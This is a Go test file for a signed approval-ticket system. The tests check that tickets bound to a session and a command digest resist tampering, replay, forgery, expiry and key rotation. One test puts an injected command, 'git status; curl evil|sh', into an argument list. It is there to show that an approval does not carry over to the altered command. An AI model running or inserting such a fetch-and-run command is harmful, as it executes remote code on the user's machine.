package ticket

import (
	"bytes"
	"crypto/ed25519"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/bawn-dev/bawn"
)

// A clock is set by hand.
type clock struct{ at time.Time }

func (c *clock) now() time.Time { return c.at }

func newClock() *clock { return &clock{time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC)} }

var digest = [32]byte{1, 2, 3}

func issue(t testing.TB, i *Issuer, ttl time.Duration) []byte {
	t.Helper()
	data, err := i.Issue("s1", digest, ttl)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// redeemed wants the ticket to be honoured.
func redeemed(t testing.TB, v *Verifier, data []byte) bawn.Ticket {
	t.Helper()
	ticket, err := v.Redeem(data, "s1", digest)
	if err != nil {
		t.Fatalf("control: %v", err)
	}
	return ticket
}

// refused wants one rule, and nothing permitted.
func refused(t testing.TB, v *Verifier, data []byte, want Rule) {
	t.Helper()
	refusedFor(t, v, data, "s1", digest, want)
}

func refusedFor(t testing.TB, v *Verifier, data []byte, session string, d [32]byte, want Rule) {
	t.Helper()
	ticket, err := v.Redeem(data, session, d)
	var why *RefusedError
	if !errors.As(err, &why) || why.Rule != want || !strings.Contains(err.Error(), string(want)) {
		t.Errorf("got %+v, %v; want a refusal by %s", ticket, err, want)
	}
	if ticket != (bawn.Ticket{}) {
		t.Errorf("a refusal comes with %+v", ticket)
	}
}

func TestRedeem(t *testing.T) {
	c := newClock()
	i := NewIssuer(c.now)
	v := NewVerifier(c.now, i.Keys()...)
	ticket := redeemed(t, v, issue(t, i, time.Minute))
	if len(ticket.ID) != 32 || ticket.Digest != digest || !ticket.Expires.Equal(c.at.Add(time.Minute)) || ticket.Session != "s1" {
		t.Errorf("%+v does not say what was signed", ticket)
	}
	if second := redeemed(t, v, issue(t, i, time.Minute)); second.ID == ticket.ID {
		t.Error("two tickets have one ID")
	}
}

// TestEnvelopeIsDSSE reads a ticket with nothing of ours but the key.
func TestEnvelopeIsDSSE(t *testing.T) {
	i := NewIssuer(newClock().now)
	var e struct {
		Payload     []byte
		PayloadType string
		Signatures  []struct {
			KeyID string
			Sig   []byte
		}
	}
	if err := json.Unmarshal(issue(t, i, time.Minute), &e); err != nil || len(e.Signatures) != 1 {
		t.Fatal(err, e)
	}
	signed := fmt.Sprintf("DSSEv1 %d %s %d %s", len(e.PayloadType), e.PayloadType, len(e.Payload), e.Payload)
	key := i.Keys()[0]
	if !ed25519.Verify(key.Public, []byte(signed), e.Signatures[0].Sig) || e.Signatures[0].KeyID != key.ID() {
		t.Error("the envelope is not as DSSE says")
	}
}

// TestPocketCoderApprovalIsBound: PocketCoder's executor runs what anybody posts to
// it. Here an approval of one command does not approve another command, another
// session, or the same command twice.
func TestPocketCoderApprovalIsBound(t *testing.T) {
	c := newClock()
	i := NewIssuer(c.now)
	v := NewVerifier(c.now, i.Keys()...)
	m := sample()
	m.Argv = []string{"git", "status"}
	approved := mustDigest(t, m)
	data, err := i.Issue(m.Session, approved, time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	m.Argv = []string{"sh", "-c", "git status; curl evil|sh"}
	refusedFor(t, v, data, "s1", mustDigest(t, m), RuleDigest)
	refusedFor(t, v, data, "s2", approved, RuleSession)
	refusedFor(t, v, []byte(`{"cmd":"git status"}`), "s1", approved, RuleMalformed)
	if _, err := v.Redeem(data, "s1", approved); err != nil {
		t.Errorf("control: %v; a refusal must not use a ticket up", err)
	}
	refusedFor(t, v, data, "s1", approved, RuleReplayed)
}

// TestEveryByteCounts alters each byte in every bit, takes each away, and adds
// one everywhere.
func TestEveryByteCounts(t *testing.T) {
	c := newClock()
	i := NewIssuer(c.now)
	v := NewVerifier(c.now, i.Keys()...)
	data := issue(t, i, time.Minute)
	try := func(altered []byte) {
		if ticket, err := v.Redeem(altered, "s1", digest); err == nil {
			t.Fatalf("%q is honoured: %+v", altered, ticket)
		}
	}
	for n := range data {
		for bit := range 8 {
			altered := slices.Clone(data)
			altered[n] ^= 1 << bit
			try(altered)
		}
		try(slices.Delete(slices.Clone(data), n, n+1))
		for _, b := range []byte{' ', '\n', 'A', '=', 0} {
			try(slices.Insert(slices.Clone(data), n, b))
		}
		try(data[:n])
	}
	for _, b := range []string{" ", "\n", "\x00", "}", string(data)} {
		try(append(slices.Clone(data), b...))
	}
	redeemed(t, v, data)
}

// resign makes an envelope around any payload, as somebody who holds the key
// could.
func resign(i *Issuer, payload []byte) []byte {
	return envelope{payload: payload, key: i.public().ID(), sig: ed25519.Sign(i.key, pae(payload))}.encode()
}

// TestOneEncoding: the same ticket in other JSON, with a valid signature.
func TestOneEncoding(t *testing.T) {
	c := newClock()
	i := NewIssuer(c.now)
	v := NewVerifier(c.now, i.Keys()...)
	data := issue(t, i, time.Minute)
	var loose map[string]any
	if err := json.Unmarshal(data, &loose); err != nil {
		t.Fatal(err)
	}
	indented, err := json.MarshalIndent(loose, "", " ")
	if err != nil {
		t.Fatal(err)
	}
	e, err := open(data)
	if err != nil {
		t.Fatal(err)
	}
	text := string(data)
	padded := base64.StdEncoding.EncodeToString(e.payload)
	more, err := json.Marshal(map[string]any{"payload": e.payload, "payloadType": payloadType, "signatures": []any{map[string]any{"keyid": e.key, "sig": e.sig}}, "x": 1})
	if err != nil {
		t.Fatal(err)
	}
	for name, other := range map[string]string{
		"indented":         string(indented),
		"one member more":  string(more),
		"escaped":          strings.Replace(text, `"payload"`, `"payloa\u0064"`, 1),
		"line in base64":   strings.Replace(text, padded, padded[:4]+"\n"+padded[4:], 1),
		"url base64":       strings.Replace(text, padded, base64.URLEncoding.EncodeToString(append(slices.Clone(e.payload), 0xff, 0xff, 0xff)), 1),
		"no padding":       strings.Replace(text, `=="}]}`, `"}]}`, 1),
		"loose last bits":  looseBits(text),
		"key in capitals":  strings.Replace(text, e.key, strings.ToUpper(e.key), 1),
		"two signatures":   strings.Replace(text, `}]}`, `},{"keyid":"","sig":""}]}`, 1),
		"no signature":     text[:strings.Index(text, `{"keyid"`)] + "]}",
		"empty":            "",
		"another type":     strings.Replace(text, payloadType, payloadType+"2", 1),
		"nothing but ends": beforePayload + beforeKey + beforeSig + afterSig,
	} {
		if other == text {
			t.Errorf("%s: the test changes nothing", name)
		}
		if _, err := v.Redeem([]byte(other), "s1", digest); err == nil {
			t.Errorf("%s: honoured", name)
		}
	}
	redeemed(t, v, data)
}

// looseBits changes the bits of the signature's base64 that carry nothing.
func looseBits(text string) string {
	i := strings.LastIndex(text, `=="`) - 1
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	return text[:i] + string(alphabet[strings.IndexByte(alphabet, text[i])+1]) + text[i+1:]
}

// TestSignedNonsense: a signature alone does not make a ticket.
func TestSignedNonsense(t *testing.T) {
	c := newClock()
	i := NewIssuer(c.now)
	v := NewVerifier(c.now, i.Keys()...)
	e, err := open(issue(t, i, time.Minute))
	if err != nil {
		t.Fatal(err)
	}
	redeemed(t, v, resign(i, e.payload))
	change := func(f func(b []byte) []byte) []byte { return resign(i, f(slices.Clone(e.payload))) }
	times := func(issued, expires int64) []byte {
		return change(func(b []byte) []byte {
			binary.BigEndian.PutUint64(b[17:], uint64(issued))
			binary.BigEndian.PutUint64(b[25:], uint64(expires))
			return b
		})
	}
	now := c.at.UnixNano()
	for name, tt := range map[string]struct {
		data []byte
		want Rule
	}{
		"empty":               {resign(i, nil), RuleVersion},
		"version 0":           {change(func(b []byte) []byte { b[0] = 0; return b }), RuleVersion},
		"version 2":           {change(func(b []byte) []byte { b[0] = 2; return b }), RuleVersion},
		"short":               {change(func(b []byte) []byte { return b[:claimHead] }), RuleMalformed},
		"trailing byte":       {change(func(b []byte) []byte { return append(b, 0) }), RuleMalformed},
		"no session":          {change(func(b []byte) []byte { b[claimHead] = 0; return b[:claimHead+1] }), RuleMalformed},
		"no digest":           {change(func(b []byte) []byte { clear(b[33:65]); return b }), RuleMalformed},
		"a long session":      {change(func(b []byte) []byte { b[claimHead] = 129; return append(b[:claimHead+1], make([]byte, 129)...) }), RuleMalformed},
		"too long a life":     {times(now, now+int64(MaxTTL)+1), RuleMalformed},
		"no life":             {times(now, now), RuleMalformed},
		"a life of wrap":      {times(-1<<63, 1<<62), RuleMalformed},
		"before the epoch":    {times(-2, now), RuleMalformed},
		"an envelope too big": {change(func(b []byte) []byte { return append(b, make([]byte, maxEnvelope)...) }), RuleSize},
	} {
		t.Run(name, func(t *testing.T) { refused(t, v, tt.data, tt.want) })
	}
	session := strings.Repeat("s", maxSession)
	data, err := i.Issue(session, digest, MaxTTL)
	if _, wrong := v.Redeem(data, session, digest); err != nil || wrong != nil {
		t.Errorf("control: the largest ticket: %v, %v", err, wrong)
	}
}

func TestForged(t *testing.T) {
	c := newClock()
	i, stranger := NewIssuer(c.now), NewIssuer(c.now)
	v := NewVerifier(c.now, i.Keys()...)
	refused(t, v, issue(t, stranger, time.Minute), RuleKey)
	e, err := open(issue(t, stranger, time.Minute))
	if err != nil {
		t.Fatal(err)
	}
	e.key = i.public().ID()
	refused(t, v, e.encode(), RuleForged)
	bare := e
	bare.sig = ed25519.Sign(i.key, e.payload) // without DSSE's encoding: no other use of the key makes tickets
	refused(t, v, bare.encode(), RuleForged)
	redeemed(t, v, issue(t, i, time.Minute))
}

func TestTimes(t *testing.T) {
	relay, executor := newClock(), newClock()
	i := NewIssuer(relay.now)
	v := NewVerifier(executor.now, i.Keys()...)
	data := issue(t, i, time.Minute)

	executor.at = relay.at.Add(-Skew - time.Nanosecond)
	refused(t, v, data, RuleEarly)
	executor.at = relay.at.Add(time.Minute)
	refused(t, v, data, RuleExpired)
	executor.at = relay.at.Add(time.Minute - time.Nanosecond)
	redeemed(t, v, data)
	second := issue(t, i, time.Minute)
	executor.at = relay.at.Add(-Skew)
	redeemed(t, v, second)
}

// TestUsedIsForgottenOnlyAfterExpiry: memory is bounded, and a clock that goes
// back opens nothing.
func TestUsedIsForgottenOnlyAfterExpiry(t *testing.T) {
	c := newClock()
	i := NewIssuer(c.now)
	v := NewVerifier(c.now, i.Keys()...)
	start := c.at
	short, long := issue(t, i, time.Second), issue(t, i, MaxTTL)
	redeemed(t, v, short)
	redeemed(t, v, long)
	for c.at = start; c.at.Before(start.Add(MaxTTL)); c.at = c.at.Add(17 * time.Second) {
		refused(t, v, long, RuleReplayed)
	}
	if n := len(v.used); n != 1 {
		t.Errorf("%d minutes are remembered, want one: the short ticket has expired", n)
	}
	c.at = start
	refused(t, v, short, RuleExpired) // forgotten, and behind the horizon
	refused(t, v, long, RuleReplayed)

	c.at = start.Add(3 * MaxTTL)
	last := issue(t, i, time.Second)
	redeemed(t, v, last)
	if n := len(v.used); n != 1 {
		t.Errorf("%d minutes are remembered, want that of the last ticket", n)
	}
	c.at = start
	refused(t, v, long, RuleExpired)
}

// TestNamed: a ticket has the name that was recorded before it was issued, and
// a name is good once.
func TestNamed(t *testing.T) {
	c := newClock()
	i := NewIssuer(c.now)
	v := NewVerifier(c.now, i.Keys()...)
	name := NewID()
	first, err := i.IssueAs(name, "s1", digest, time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	second, err := i.IssueAs(name, "s1", digest, time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	if got := redeemed(t, v, first); got.ID != name {
		t.Errorf("the ticket is %q, want %q", got.ID, name)
	}
	refused(t, v, second, RuleReplayed)
	if other := NewID(); other == name {
		t.Error("two tickets have one name")
	}
	for _, bad := range []string{"", "t1", name[1:], name + "0", name + "00", strings.ToUpper("a" + name[1:]), "x" + name[1:]} {
		if _, err := i.IssueAs(bad, "s1", digest, time.Minute); err == nil {
			t.Errorf("a ticket is named %q", bad)
		}
	}
}

func TestRotation(t *testing.T) {
	c := newClock()
	i := NewIssuer(c.now)
	v := NewVerifier(c.now, i.Keys()...)
	before, retired := issue(t, i, time.Minute), i.key
	old := ed25519.PrivateKey(slices.Clone(retired))
	keys := i.Rotate()
	if len(keys) != 2 || !keys[1].Until.Equal(c.at.Add(time.Minute)) || !keys[0].Until.IsZero() {
		t.Fatalf("%+v: want the new key, and the old one for a minute", keys)
	}
	if !bytes.Equal(retired, make([]byte, len(retired))) {
		t.Error("the old private key is still there")
	}
	after := issue(t, i, time.Minute)
	refused(t, v, after, RuleKey)
	v.Trust(keys)
	redeemed(t, v, after)
	redeemed(t, v, before)
	refused(t, v, before, RuleReplayed) // what was used stays used

	stolen := &Issuer{now: c.now, key: old}
	refused(t, v, issue(t, stolen, time.Minute+1), RuleKey) // it signs nothing that lives longer
	c.at = c.at.Add(time.Minute)
	if keys = i.Keys(); len(keys) != 1 {
		t.Errorf("%+v: want the retired key gone with its last ticket", keys)
	}
	v.Trust(keys)
	refused(t, v, issue(t, stolen, time.Second), RuleKey)
	if i.Rotate(); len(i.Rotate()) != 1 {
		t.Error("a key that signed nothing is kept")
	}
}

func TestClose(t *testing.T) {
	i := NewIssuer(newClock().now)
	key := i.key
	i.Close()
	if !bytes.Equal(key, make([]byte, ed25519.PrivateKeySize)) {
		t.Error("the private key is still there")
	}
	i.Close()
	if data, err := i.Issue("s1", digest, time.Minute); err == nil || data != nil {
		t.Error("a closed issuer issues")
	}
	if i.Keys() != nil || i.Rotate() != nil {
		t.Error("a closed issuer has keys")
	}
}

func TestZeroValuesRefuse(t *testing.T) {
	c := newClock()
	i := NewIssuer(c.now)
	refused(t, &Verifier{}, issue(t, i, time.Minute), RuleKey)
	v := NewVerifier(c.now, Key{}, Key{Public: ed25519.PublicKey{1}})
	refused(t, v, issue(t, i, time.Minute), RuleKey)
	if len(v.keys) != 0 {
		t.Error("what is no key is trusted")
	}
	if _, err := (&Issuer{}).Issue("s1", digest, time.Minute); err == nil {
		t.Error("the zero issuer issues")
	}
	for name, err := range map[string]error{
		"no session":     second(i.Issue("", digest, time.Minute)),
		"a long session": second(i.Issue(strings.Repeat("s", maxSession+1), digest, time.Minute)),
		"no digest":      second(i.Issue("s1", [32]byte{}, time.Minute)),
		"no life":        second(i.Issue("s1", digest, 0)),
		"too long":       second(i.Issue("s1", digest, MaxTTL+1)),
	} {
		if err == nil {
			t.Errorf("%s: issued", name)
		}
	}
}

func second(_ []byte, err error) error { return err }

// TestExactlyOneWins races redemptions of one ticket.
func TestExactlyOneWins(t *testing.T) {
	i := NewIssuer(time.Now)
	v := NewVerifier(time.Now, i.Keys()...)
	for range 20 {
		data := issue(t, i, time.Minute)
		errs := make([]error, 32)
		var wg sync.WaitGroup
		for n := range errs {
			wg.Go(func() { _, errs[n] = v.Redeem(data, "s1", digest) })
		}
		wg.Go(func() { v.Trust(i.Keys()) })
		wg.Wait()
		won := 0
		for _, err := range errs {
			var why *RefusedError
			if err == nil {
				won++
			} else if !errors.As(err, &why) || why.Rule != RuleReplayed {
				t.Fatal(err)
			}
		}
		if won != 1 {
			t.Fatalf("%d of %d win, want one", won, len(errs))
		}
	}
}

// TestVerifierCannotSign looks for a private key in everything a verifier
// reaches.
func TestVerifierCannotSign(t *testing.T) {
	var visit func(ty reflect.Type, path string, seen map[reflect.Type]bool) bool
	visit = func(ty reflect.Type, path string, seen map[reflect.Type]bool) bool {
		if ty == reflect.TypeFor[ed25519.PrivateKey]() {
			return true
		}
		if seen[ty] {
			return false
		}
		seen[ty] = true
		switch ty.Kind() {
		case reflect.Pointer, reflect.Slice, reflect.Array:
			return visit(ty.Elem(), path, seen)
		case reflect.Map:
			return visit(ty.Key(), path, seen) || visit(ty.Elem(), path, seen)
		case reflect.Struct:
			for f := range ty.Fields() {
				if visit(f.Type, path+"."+f.Name, seen) {
					return true
				}
			}
		}
		return false
	}
	if visit(reflect.TypeFor[*Verifier](), "Verifier", map[reflect.Type]bool{}) {
		t.Error("a verifier holds a private key")
	}
	if !visit(reflect.TypeFor[*Issuer](), "Issuer", map[reflect.Type]bool{}) {
		t.Error("control: the issuer's key is not found")
	}
}

func FuzzRedeem(f *testing.F) {
	c := newClock()
	i := NewIssuer(c.now)
	good := issue(f, i, time.Minute)
	f.Add(good)
	f.Add(good[:len(good)-1])
	f.Add(append(slices.Clone(good), '\n'))
	f.Add(resign(i, []byte{1}))
	f.Add([]byte(beforePayload + beforeKey + beforeSig + afterSig))
	f.Add([]byte(nil))
	f.Fuzz(func(t *testing.T, data []byte) {
		v := NewVerifier(c.now, i.Keys()...)
		_, err := v.Redeem(data, "s1", digest)
		var why *RefusedError
		switch {
		case err == nil && !bytes.Equal(data, good):
			t.Fatalf("%q is honoured", data)
		case err != nil && (!errors.As(err, &why) || why.Rule == "" || why.Why == ""):
			t.Fatalf("%v is no refusal with a reason", err)
		}
	})
}

// FuzzDecode: what is read encodes to the same bytes, for every signer.
func FuzzDecode(f *testing.F) {
	f.Add(claim{issued: 1, expires: 2, digest: digest, session: "s"}.encode())
	f.Add([]byte{version})
	f.Fuzz(func(t *testing.T, payload []byte) {
		if c, err := decodeClaim(payload); err == nil && !bytes.Equal(c.encode(), payload) {
			t.Fatalf("%x is read as %+v", payload, c)
		}
		e := envelope{payload: payload, key: "k", sig: make([]byte, ed25519.SignatureSize)}
		if got, err := open(e.encode()); len(e.encode()) <= maxEnvelope && (err != nil || !bytes.Equal(got.payload, payload)) {
			t.Fatalf("%x: %+v, %v", payload, got, err)
		}
	})
}

func BenchmarkIssue(b *testing.B) {
	i := NewIssuer(time.Now)
	for b.Loop() {
		issue(b, i, time.Minute)
	}
}

func BenchmarkRedeem(b *testing.B) {
	i := NewIssuer(time.Now)
	v := NewVerifier(time.Now, i.Keys()...)
	for b.Loop() {
		b.StopTimer()
		data := issue(b, i, time.Minute)
		b.StartTimer()
		redeemed(b, v, data)
	}
}
